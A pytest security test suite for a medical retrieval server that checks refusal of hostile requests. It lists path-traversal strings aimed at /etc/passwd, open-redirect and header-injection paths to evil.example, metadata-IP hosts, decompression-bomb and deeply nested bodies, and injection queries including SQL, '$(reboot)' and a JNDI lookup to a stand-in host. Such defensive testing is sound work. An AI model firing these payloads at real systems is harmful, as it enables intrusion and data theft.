"""Attacks by what is asked for: paths, methods, hosts, and bodies that are not what they say."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

import medrag.server
from tests.server.attack_helpers import (
    METFORMIN,
    answers,
    connect,
    head,
    refused,
    say,
    to_the_end,
)
from tests.server.conftest import Running

KIND = "Content-Type: application/json"


@pytest.fixture(autouse=True)
def still_answers(server: Running) -> Iterator[None]:
    yield
    answers(server)


# Paths

UP = [
    "..",
    "%2e%2e",
    ".%2e",
    "%252e%252e",
    "..%2f..",
    "..%5c..",
    "..\\..",
    "%c0%ae%c0%ae",
    "....//",
]
PLACES = ["/static/", "/static//", "/", "/v1/documents/", "/v1/models/", "/docs/", "/mcp/"]


@pytest.mark.parametrize("place", PLACES)
def test_a_path_leads_nowhere_else(server: Running, place: str) -> None:
    """No file but those of the page is given out, however the way to it is written."""
    sources = Path(medrag.server.__file__).parent.glob("*.py")
    secrets = [source.read_bytes()[:80] for source in sources]
    secrets += [b"root:", b"library.sqlite", b'"sha256"']
    key = server.library / "keys.json"
    wanted = [
        "app.py",
        "settings.py",
        "../../../../../../etc/passwd",
        f"/{key}",
        quote(str(key), ""),
    ]
    for up in UP:
        for name in wanted:
            request = head(server, f"GET {place}{up}/{name}", "Connection: close", key="reader")
            reply = say(server, request)
            assert reply.status in (400, 404), reply
            assert not any(secret in reply.body for secret in secrets)


@pytest.mark.parametrize(
    "name",
    [
        "app.py", "index.html%00.js", "%00", "INDEX.HTML", "index.html%20", ".", "",
        "style.css%0d%0aX-Evil:%20y", "con.js", "a" * 5000, "%ff%fe", "\\app.js", "app.js%3f",
        "app.js::$DATA", "~/app.js",
    ],
)  # fmt: skip
def test_only_the_pages_own_files_are_static(server: Running, name: str) -> None:
    reply = say(server, head(server, f"GET /static/{name}", "Connection: close"))
    assert reply.status == 404 and "x-evil" not in reply.headers


def test_an_id_is_no_path(server: Running) -> None:
    """The command line takes a document's path; a server that did would tell which there are."""
    with server.client("admin") as chief:
        path = chief.get("/v1/documents").json()["documents"][0]["path"]
        for wanted in (path, Path(path).name, f"../{Path(path).name}", "%25", "______", "' OR 1=1"):
            for tail in ("", "/text"):
                reply = chief.get(f"/v1/documents/{quote(wanted, safe='')}{tail}")
                assert reply.status_code == 404
            assert chief.delete(f"/v1/documents/{quote(wanted, safe='')}").status_code == 404


@pytest.mark.parametrize(
    "path",
    [
        "//evil.example/", "//evil.example/v1/ask/", "/\\evil.example/", "///evil.example/docs/",
        "/%2f%2fevil.example/", "/.evil.example", "/docs//evil.example/", "/v1/ask/%0d%0aX-Evil:y/",
        "/v1/me%0aX-Evil:y/", "http://evil.example/docs/", "/docs/?next=//evil.example",
        "/?url=https://evil.example", "/docs/", "/v1/ask/", "/mcp/",
    ],
)  # fmt: skip
def test_nobody_is_sent_to_another_host(server: Running, path: str) -> None:
    forwarded = (
        "X-Forwarded-Host: evil.example",
        "X-Forwarded-Proto: https",
        "Forwarded: host=evil",
    )
    for headers in ((), forwarded):
        reply = say(server, head(server, f"GET {path}", *headers, key="reader"))
        location = reply.headers.get("location", server.address + "/")
        assert location.startswith(server.address + "/") and "evil.example/" not in location[20:]
        assert "x-evil" not in reply.headers and "refresh" not in reply.headers


def test_a_host_that_was_forwarded_is_in_no_link(server: Running) -> None:
    body = json.dumps({"model": "medrag", "messages": [{"role": "user", "content": METFORMIN}]})
    lines = ["X-Forwarded-Host: evil.example", "X-Forwarded-Proto: gopher", "X-Host: evil.example"]
    lines += [KIND, f"Content-Length: {len(body)}"]
    reply = say(
        server, head(server, "POST /v1/chat/completions", *lines, key="reader") + body.encode()
    )
    assert reply.status == 200 and b"evil" not in reply.body and b"gopher" not in reply.body
    assert server.address.encode() + b"/#/source/" in reply.body


# Methods


@pytest.mark.parametrize("method", ["TRACE", "PUT", "PATCH", "PROPFIND", "MKCOL", "SEARCH", "LOCK"])
def test_other_methods_do_nothing(server: Running, method: str) -> None:
    for path in ("/v1/documents", "/v1/me", "/metrics", "/", "/static/app.js"):
        reply = say(server, head(server, f"{method} {path}", "X-Secret: 42", key="admin"))
        assert reply.status in (400, 405), reply
        assert b"X-Secret" not in reply.body and b"mr_" not in reply.body


@pytest.mark.parametrize("line", ["OPTIONS *", "OPTIONS /v1/ask", "HEAD /v1/documents", "HEAD /"])
def test_questions_about_methods_tell_nothing(server: Running, line: str) -> None:
    reply = say(server, head(server, line, "Connection: close"))
    assert reply.status in (200, 400, 401, 404, 405)
    assert "access-control-allow-origin" not in reply.headers
    assert b"metformin" not in reply.body.lower()
    assert "An error in medrag itself" not in server.log.read_text("utf-8")
    assert "Exception in ASGI" not in server.log.read_text("utf-8")


def test_a_method_cannot_be_overridden(server: Running) -> None:
    with server.client("admin") as chief:
        before = chief.get("/v1/documents").json()
        wanted = before["documents"][0]["id"]
        for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
            for method in ("GET", "POST"):
                path = f"/v1/documents/{wanted}?_method=DELETE"
                reply = chief.request(method, path, headers={name: "DELETE"})
                assert reply.status_code in (200, 405)
        assert chief.get("/v1/documents").json() == before


# Hosts


@pytest.mark.parametrize(
    "host",
    [
        "evil.example", "127.0.0.1.evil.example", "localhost.evil.example", "evil.example:8642",
        "localhost@evil.example", "evil.example#localhost", "localhost:99999", "localhost:x",
        "2130706433", "0x7f.1", "10.0.0.1", "[::ffff:10.0.0.1]", "", "local host",
        "169.254.169.254",
    ],
)  # fmt: skip
def test_a_name_that_is_not_the_servers_is_refused(server: Running, host: str) -> None:
    """DNS rebinding: somebody's own name, pointed at this machine, gets not even the page."""
    for path in ("/", "/static/app.js", "/v1/documents", "/openapi.json", "/widget.js"):
        line = f"Host: {host}".rstrip()
        request = f"GET {path} HTTP/1.1\r\n{line}\r\nConnection: close\r\n\r\n".encode()
        reply = say(server, request)
        assert reply.status in (400, 421), reply
        assert b"<html" not in reply.body.lower()


# Bodies

BODIES = {
    "compressed": gzip.compress(b'{"query": "' + b"x" * 50_000_000 + b'"}'),
    "nested lists": b"[" * 400_000,
    "nested objects": b'{"query":' * 100_000,
    "a huge number": b'{"query": "x", "k": ' + b"9" * 100_000 + b"}",
    "a huge exponent": b'{"query": "x", "k": 1e999999999}',
    "infinite": b'{"query": "x", "k": Infinity}',
    "not a number": b'{"query": NaN}',
    "half a character": b'{"query": "\\ud800"}',
    "half a character as a key": b'{"query": "x", "\\ud800": 1}',
    "half a character as a name": b'{"query": "x", "collections": ["\\udfff"]}',
    "not UTF-8": b'{"query": "\xff\xfe"}',
    "overlong UTF-8": b'{"query": "\xc0\xaf"}',
    "UTF-16 with an odd byte": '{"query": "x"}'.encode("utf-16") + b"x",
    "nothing": b"",
    "null": b"null",
    "a list": b'[{"query": "x"}]',
    "two values": b'{"query": "x"}{"query": "y"}',
    "a comment": b'{"query": "x" /* */}',
    "a text for a number": b'{"query": "x", "k": "8"}',
    "true for a number": b'{"query": "x", "k": true}',
    "an object for a text": b'{"query": {"$ne": ""}}',
    "an unknown field": b'{"query": "x", "__proto__": {"role": "admin"}}',
    "a role": b'{"query": "x", "role": "admin", "caller": {"collections": null}}',
    "a million fields": b'{"query": "x",' + b",".join(b'"%d":0' % n for n in range(90_000)) + b"}",
    "the same field": b"{" + b'"k": 8,' * 100_000 + b'"query": 1}',
}


@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
def test_a_body_that_is_none_is_refused_in_a_line(server: Running, body: bytes) -> None:
    for path in ("/v1/search", "/v1/ask", "/v1/verify", "/cds-services/medrag-guidelines"):
        lines = [KIND, f"Content-Length: {len(body)}", "Connection: close"]
        lines += ["Content-Encoding: gzip"] * (body[:2] == b"\x1f\x8b")
        reply = say(server, head(server, f"POST {path}", *lines, key="reader") + body)
        assert reply.status in (400, 422), reply
        told = refused(reply, reply.status)
        assert len(told) < 300 and "9999" not in told


@pytest.mark.parametrize(
    "body",
    [b'\xef\xbb\xbf{"query": "metformin"}', '{"query": "metformin"}'.encode("utf-16")],
    ids=["a byte order mark", "UTF-16"],
)
def test_another_encoding_is_read_as_what_it_is_or_refused(server: Running, body: bytes) -> None:
    lines = [KIND, f"Content-Length: {len(body)}"]
    reply = say(server, head(server, "POST /v1/search", *lines, key="reader") + body)
    assert reply.status == 200 and reply.json()["query"] == "metformin"


QUERIES = [
    "metformin\" OR 1=1 --", "'; DROP TABLE documents; --", "NEAR(metformin egfr)", "text: *",
    "collection:closed", "{collections: closed} zanthoxylum", "*", '"', "NOT", "a" * 4000,
    "\x00", "%s%s%n", "{{7*7}}", "${jndi:ldap://evil.example}", "$(reboot)", "../../etc/passwd",
    "\u202e\u2066", "a\u0301" * 1000, "(" * 2000, "1/" * 2000, "metformin, " * 360,
]  # fmt: skip


@pytest.mark.parametrize("query", QUERIES, ids=range(len(QUERIES)))
def test_a_query_is_only_words(server: Running, query: str) -> None:
    with server.client("reader") as reader:
        found = reader.post("/v1/search", json={"query": query, "k": 50})
        answer = reader.post("/v1/ask", json={"question": query})
    assert found.status_code == 200 and answer.status_code in (200, 422)
    for reply in (found, answer):
        assert "4711 euros" not in reply.text and reply.elapsed.total_seconds() < 5
    with server.client("admin") as chief:
        assert len(chief.get("/v1/documents").json()["documents"]) > 10


def test_paths_that_are_none_make_no_new_figures(server: Running) -> None:
    """Labels of a metric are kept for ever: nobody may make them up."""
    with server.client("admin") as chief:
        chief.get("/nothing")
        before = chief.get("/metrics").text.count("medrag_requests_total{")
        with connect(server) as raw:
            for number in range(200):
                raw.sendall(head(server, f"GET /made/up/{number}"))
            raw.sendall(head(server, "GET /x", "Connection: close"))
            assert to_the_end(raw).count(b" 404 ") == 201
        assert chief.get("/metrics").text.count("medrag_requests_total{") <= before + 1
